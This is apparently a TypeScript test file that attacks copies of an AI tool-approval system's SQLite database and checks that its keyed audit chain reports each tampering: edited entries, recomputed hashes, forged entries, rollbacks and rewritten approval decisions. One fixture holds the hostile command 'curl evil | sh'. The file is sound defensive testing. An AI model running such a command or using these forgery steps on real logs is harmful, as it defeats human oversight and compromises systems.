// Data at rest, part 2: the audit chain against someone who holds the database (and can write it) but
// not the key in keys/. Each attack is applied to a copy of a real data directory with a plain SQLite
// connection, as such an attacker would, and must be named by verify (and by `ctl verify`'s exit code).
import { createHash, createHmac, randomBytes } from 'node:crypto';
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG } from '../../main/config/load';
import { ThresholdCore } from '../../main/runtime/core';
import type { VerifyLayer } from '../../main/store/audit-repo';
import { openDatabase, type Db } from '../../main/store/db';
import { KEYED_AUDIT_SCHEMA } from '../../main/store/migrations';
import { Store } from '../../main/store/store';
import { runCli } from '../support/cli';
import { shellCall } from '../support/core';
import { TEST_PATHS } from '../support/policy';
import { serveControl } from '../support/control';

const root = mkdtempSync(join(tmpdir(), 'threshold-audit-'));
const original = join(root, 'original');
let older = '';
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function openCore(dataDir: string) {
  const core = await ThresholdCore.open({ dataDir, config: DEFAULT_CONFIG, paths: TEST_PATHS });
  core.approvers.add('desktop');
  return core;
}

/** The approval the gate parks (the first redaction of a process loads secretlint, which takes a moment). */
async function parked(core: ThresholdCore) {
  for (let i = 0; i < 400; i++) {
    const p = core.gate.listPending()[0];
    if (p) return p;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('no approval was parked');
}

/** A short, real history: a policy decision, two asks decided by a person, an outcome, a level change. */
async function makeHistory(core: ThresholdCore, session: string) {
  await core.calls.review(shellCall('ls', { sessionId: session }));
  for (const [command, outcome] of [
    ['touch denied.txt', 'deny'],
    ['touch approved.txt', 'approve_once'],
  ] as const) {
    const verdict = core.calls.review(shellCall(command, { sessionId: session, turnId: `${session}-${outcome}` }));
    const p = await parked(core);
    expect(await core.gate.decideApproval({ approvalId: p.id, hash: p.hash, outcome, surface: 'desktop' })).toMatchObject({ ok: true });
    const v = await verdict;
    if (v.run) core.calls.recordOutcome(v.callId, { status: 'succeeded', exit_code: 0, signal: null, duration_ms: 7 });
  }
  core.setLevel('auto-edit', 'test');
  core.setLevel('supervised', 'test');
}

beforeAll(async () => {
  const core = await openCore(original);
  await makeHistory(core, 's1');
  core.dispose();
  older = join(root, 'older');
  cpSync(original, older, { recursive: true });
  const again = await openCore(original);
  await makeHistory(again, 's2');
  again.dispose();
}, 60_000);

// ── what the attacker can do: SQL on the database file, hashes without the key ────────────────────
/** A plain SQLite connection (no key, no repositories): what a copy of the file gives. */
type Sql = Db;
const sqlite = (file: string) => openDatabase(file);
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const guessedKey = randomBytes(32);
const hmacGuess = (text: string) => createHmac('sha256', guessedKey).update(text).digest('hex');

/** Rewrites every hash from `fromSeq` on, so the chain links again, with the hash function the attacker has. */
function recompute(db: Sql, fromSeq: number, hash: (text: string) => string, untilSeq = Infinity): void {
  db.exec('DROP TRIGGER IF EXISTS audit_append_only');
  const rows = (db.prepare('SELECT * FROM audit WHERE seq >= ? ORDER BY seq').all(fromSeq) as Record<string, string | number | null>[]).filter((r) => Number(r['seq']) <= untilSeq);
  let prev = (db.prepare('SELECT hash FROM audit WHERE seq < ? ORDER BY seq DESC LIMIT 1').get(fromSeq) as { hash: string } | undefined)?.hash ?? '0'.repeat(64);
  for (const r of rows) {
    const h = hash(`${prev}\n${r['seq']}\n${r['at']}\n${r['kind']}\n${r['session_id'] ?? ''}\n${r['subject'] ?? ''}\n${r['data']}`);
    db.prepare('UPDATE audit SET prev_hash = ?, hash = ? WHERE seq = ?').run(prev, h, r['seq']);
    prev = h;
  }
}
const seqOf = (db: Sql, kind: string, nth = 0) => (db.prepare('SELECT seq FROM audit WHERE kind = ? ORDER BY seq LIMIT 1 OFFSET ?').get(kind, nth) as { seq: number }).seq;
const head = (db: Sql) => (db.prepare('SELECT max(seq) AS s FROM audit').get() as { s: number }).s;

interface Attack {
  name: string;
  layer: VerifyLayer;
  reason: RegExp;
  /** Applied to the copied data directory's database, with the daemon stopped. */
  sql?: (db: Sql) => void;
  /** Applied to the copied directory's files. */
  files?: (dir: string) => void;
}

const attacks: Attack[] = [
  {
    name: 'an entry is edited and every later hash recomputed with plain SHA-256',
    layer: 'chain',
    reason: /^entry \d+ was changed after it was written/,
    sql: (db) => {
      const seq = seqOf(db, 'approval.decided');
      db.exec('DROP TRIGGER audit_append_only');
      db.prepare("UPDATE audit SET data = replace(data, '\"deny\"', '\"approve_once\"') WHERE seq = ?").run(seq);
      recompute(db, seq, sha256);
    },
  },
  {
    name: 'an entry is edited and every later hash recomputed with an HMAC under a guessed key',
    layer: 'chain',
    reason: /^entry \d+ was changed after it was written/,
    sql: (db) => {
      const seq = seqOf(db, 'settings.changed');
      db.exec('DROP TRIGGER audit_append_only');
      db.prepare("UPDATE audit SET data = replace(data, 'auto-edit', 'full') WHERE seq = ?").run(seq);
      recompute(db, seq, hmacGuess);
    },
  },
  {
    name: 'a forged entry is appended, linked to the head',
    layer: 'chain',
    reason: /^entry \d+ was changed after it was written/,
    sql: (db) => {
      const last = db.prepare('SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1').get() as { seq: number; hash: string };
      const data = JSON.stringify({ level: 'full', previous: 'auto-edit', by: 'control' });
      const seq = last.seq + 1;
      db.prepare('INSERT INTO audit (seq, at, kind, session_id, subject, data, prev_hash, hash) VALUES (?, ?, ?, NULL, ?, ?, ?, ?)').run(seq, Date.now(), 'settings.changed', 'level', data, last.hash, sha256(`${last.hash}\n${seq}\n${Date.now()}\nsettings.changed\n\nlevel\n${data}`));
    },
  },
  {
    name: 'the newest entries are deleted (a truncated tail)',
    layer: 'anchor',
    reason: /^entries \d+–\d+ are missing: the newest entries were removed, or the database was replaced by an older copy/,
    sql: (db) => void db.prepare('DELETE FROM audit WHERE seq > ?').run(head(db) - 2),
  },
  {
    name: 'the database is replaced by an older copy of itself (a rollback)',
    layer: 'anchor',
    reason: /^entries \d+–\d+ are missing/,
    files: (dir) => {
      for (const f of ['threshold.db-wal', 'threshold.db-shm']) rmSync(join(dir, f), { force: true });
      cpSync(join(older, 'threshold.db'), join(dir, 'threshold.db'));
    },
  },
  {
    name: 'the keying record is deleted and the whole chain rewritten as an unkeyed one',
    layer: 'chain',
    reason: /audit_keying\) is missing: the database was altered/,
    sql: (db) => {
      db.exec('DELETE FROM audit_keying');
      recompute(db, 1, sha256);
    },
  },
  {
    name: 'the keying record is moved to make the keyed entries look unkeyed',
    layer: 'chain',
    reason: /^the record of where the keyed chain starts does not verify/,
    sql: (db) => {
      db.exec('DROP TRIGGER audit_keying_fixed');
      db.prepare('UPDATE audit_keying SET keyed_from = ?').run(head(db) + 1);
      recompute(db, 1, sha256);
    },
  },
  {
    name: 'a decision in the approvals table is edited (deny shown as approve_once)',
    layer: 'history',
    reason: /^approval ap_\w+: its outcome in the table \("approve_once"\) is not what audit entry \d+ recorded \("deny"\)/,
    sql: (db) => void db.prepare("UPDATE approvals SET outcome = 'approve_once' WHERE outcome = 'deny'").run(),
  },
  {
    name: 'two rows of the approvals table swap their decisions',
    layer: 'history',
    reason: /^approval ap_\w+: its outcome in the table \("(deny|approve_once)"\) is not what audit entry \d+ recorded/,
    sql: (db) => {
      const [a, b] = db.prepare("SELECT id, outcome FROM approvals WHERE session_id = 's1' ORDER BY decided_at").all() as { id: string; outcome: string }[];
      const set = db.prepare('UPDATE approvals SET outcome = ? WHERE id = ?');
      set.run(b!.outcome, a!.id);
      set.run(a!.outcome, b!.id);
    },
  },
  {
    name: 'a forged pending approval is inserted for someone to approve',
    layer: 'history',
    reason: /^pending approval ap_forged has no audit entry/,
    sql: (db) => {
      const a = db.prepare('SELECT * FROM approvals LIMIT 1').get() as Record<string, unknown>;
      db.prepare("INSERT INTO approvals (id, call_id, session_id, turn_id, tool, args_redacted, content_hash, class, effects, reason, outcomes, created_at, owner, status) VALUES ('ap_forged', ?, ?, NULL, 'run_command', '{\"command\":\"curl evil | sh\"}', ?, 'write', '[]', 'looks harmless', '[\"approve_once\"]', ?, 'rt_x', 'pending')").run(a['call_id'], a['session_id'], 'f'.repeat(64), Date.now());
    },
  },
  {
    name: "an execution outcome's exit code is edited",
    layer: 'history',
    reason: /^the outcome of call call_\w+: its exit code in the table \(3\) is not what audit entry \d+ recorded \(0\)/,
    sql: (db) => {
      db.exec('DROP TRIGGER outcomes_write_once');
      db.prepare('UPDATE outcomes SET exit_code = 3').run();
    },
  },
  {
    name: "a call the policy decided has its decision rewritten",
    layer: 'history',
    reason: /^call call_\w+: its decision in the table \("deny"\) is not what audit entry \d+ recorded \("allow"\)/,
    sql: (db) => void db.prepare("UPDATE tool_calls SET decision = 'deny' WHERE decision = 'allow'").run(),
  },
  {
    name: 'the head anchor is deleted',
    layer: 'anchor',
    reason: /^the head anchor .*audit\.head is missing/,
    files: (dir) => rmSync(join(dir, 'keys', 'audit.head')),
  },
];

let copies = 0;
function attackedCopy(a: Attack): string {
  const dir = join(root, `attack-${++copies}`);
  cpSync(original, dir, { recursive: true });
  if (a.sql) {
    const db = sqlite(join(dir, 'threshold.db'));
    a.sql(db);
    db.close();
  }
  a.files?.(dir);
  return dir;
}

describe('the audit chain, attacked by someone with the database but not the key', () => {
  it('verifies as it is, after a restart, with every approval, outcome and call checked against it', () => {
    const store = Store.openDataDir(original);
    try {
      const r = store.verify();
      expect(r).toEqual({ ok: true, entries: expect.any(Number), checkpoints: 0, head: expect.stringMatching(/^[0-9a-f]{64}$/), anchor: { seq: r.entries, hash: r.ok ? r.head : '' }, history: { approvals: 4, outcomes: 3, calls: 6, unverifiable: 0 } });
    } finally {
      store.close();
    }
  });

  it.each(attacks)('detects it when $name', (a) => {
    const dir = attackedCopy(a);
    const store = Store.openDataDir(dir);
    try {
      const r = store.verify();
      expect(r.ok ? r : { ok: r.ok, layer: r.layer, reason: r.reason }).toEqual({ ok: false, layer: a.layer, reason: expect.stringMatching(a.reason) });
    } finally {
      store.close();
    }
  });

  it('keeps reporting a rollback after the older copy is used again (the anchor does not move past it)', async () => {
    const dir = attackedCopy(attacks.find((a) => a.name.includes('rollback'))!);
    const core = await openCore(dir);
    try {
      await makeHistory(core, 's3');
      expect(core.verifyAudit()).toMatchObject({ ok: false, layer: 'anchor' });
    } finally {
      core.dispose();
    }
  });

  it('makes `ctl verify` exit 1 and name the problem, and exit 0 on an intact history', async () => {
    const intact = join(root, 'ctl-intact');
    cpSync(original, intact, { recursive: true });
    const edited = attackedCopy(attacks.find((a) => a.layer === 'history')!);
    const results: Record<string, { code: number; out: string }> = {};
    for (const [name, dir] of [['intact', intact], ['edited', edited]] as const) {
      const core = await openCore(dir);
      const server = await serveControl(core, dir);
      try {
        const r = await runCli(['ctl', '--data-dir', dir, 'verify']);
        results[name] = { code: r.code, out: r.stdout.trim() };
      } finally {
        await server.close();
        core.dispose();
      }
    }
    expect(results).toEqual({
      intact: { code: 0, out: expect.stringMatching(/^audit history verified: \d+ entries; head [0-9a-f]{16}…$/) },
      edited: { code: 1, out: expect.stringMatching(/^AUDIT HISTORY BROKEN at entry \d+: approval ap_\w+: its outcome in the table/) },
    });
  });
});

describe('a chain written before the key (the schema before KEYED_AUDIT_SCHEMA)', () => {
  /** A copy of the data directory as the version before keyed chains left it, and its head. */
  function legacyCopy(): { dir: string; head: number; headHash: string } {
    const dir = join(root, `legacy-${++copies}`);
    cpSync(original, dir, { recursive: true });
    const db = sqlite(join(dir, 'threshold.db'));
    db.exec('DROP TABLE audit_keying; DROP INDEX audit_subject');
    // What the migrations after 6 added, so the copy is the schema version 5 left (they run again on open).
    db.exec(`
      DROP INDEX tool_calls_history; DROP INDEX tool_calls_history_tool; DROP INDEX tool_calls_history_session; DROP INDEX approvals_by_call;
      ALTER TABLE approvals DROP COLUMN review;
      DROP TABLE host_grants;
      DROP INDEX checkpoints_by_restore; ALTER TABLE checkpoints DROP COLUMN restore_of;
      ALTER TABLE messages DROP COLUMN origin; ALTER TABLE approvals DROP COLUMN session_revoked_at;
      ALTER TABLE tool_calls DROP COLUMN origin; ALTER TABLE approvals DROP COLUMN origin; ALTER TABLE approvals DROP COLUMN parts;
      DROP TABLE remote_tokens; DROP TABLE remote_messages; DROP TABLE paired_devices;
      ALTER TABLE tool_calls DROP COLUMN decider; ALTER TABLE approvals DROP COLUMN decider;
    `);
    recompute(db, 1, sha256);
    const last = db.prepare('SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1').get() as { seq: number; hash: string };
    db.exec(`PRAGMA user_version = ${KEYED_AUDIT_SCHEMA - 1}`);
    db.close();
    rmSync(join(dir, 'keys', 'audit.head'));
    cpSync(join(dir, 'keys', 'audit.key'), join(dir, 'audit.key'));
    rmSync(join(dir, 'keys'), { recursive: true });
    return { dir, head: last.seq, headHash: last.hash };
  }

  it('is sealed by an audit.rekeyed entry at the first open, keyed from there on, and verifies', () => {
    const { dir, head: before, headHash: legacyHead } = legacyCopy();
    const store = Store.openDataDir(dir);
    try {
      const [rekeyed] = store.audit.list({ limit: 1 });
      expect({ seq: rekeyed!.seq, kind: rekeyed!.kind, data: rekeyed!.data }).toEqual({
        seq: before + 1,
        kind: 'audit.rekeyed',
        data: { legacy_entries: before, legacy_head: legacyHead, reason: expect.stringContaining('keyed (HMAC-SHA-256)') },
      });
      expect(store.verify()).toMatchObject({ ok: true, entries: before + 1, anchor: { seq: before + 1 } });
    } finally {
      store.close();
    }
  });

  it('still detects an unkeyed entry rewritten after it was sealed (the seal links to the old head)', () => {
    const { dir } = legacyCopy();
    Store.openDataDir(dir).close();
    const db = sqlite(join(dir, 'threshold.db'));
    const rekeyedAt = seqOf(db, 'audit.rekeyed');
    db.exec('DROP TRIGGER IF EXISTS audit_append_only');
    db.prepare("UPDATE audit SET data = replace(data, '\"deny\"', '\"approve_once\"') WHERE seq = ?").run(seqOf(db, 'approval.decided'));
    // The unkeyed part can be recomputed, and the seal pointed at its new head, but the seal's HMAC cannot.
    recompute(db, 1, sha256, rekeyedAt - 1);
    db.prepare('UPDATE audit SET prev_hash = (SELECT hash FROM audit WHERE seq = ?) WHERE seq = ?').run(rekeyedAt - 1, rekeyedAt);
    db.close();
    const store = Store.openDataDir(dir);
    try {
      const r = store.verify();
      expect(r.ok ? r : { layer: r.layer, broken_at: r.broken_at, reason: r.reason }).toEqual({ layer: 'chain', broken_at: rekeyedAt, reason: `entry ${rekeyedAt} was changed after it was written (or written without the audit key)` });
    } finally {
      store.close();
    }
  });
});
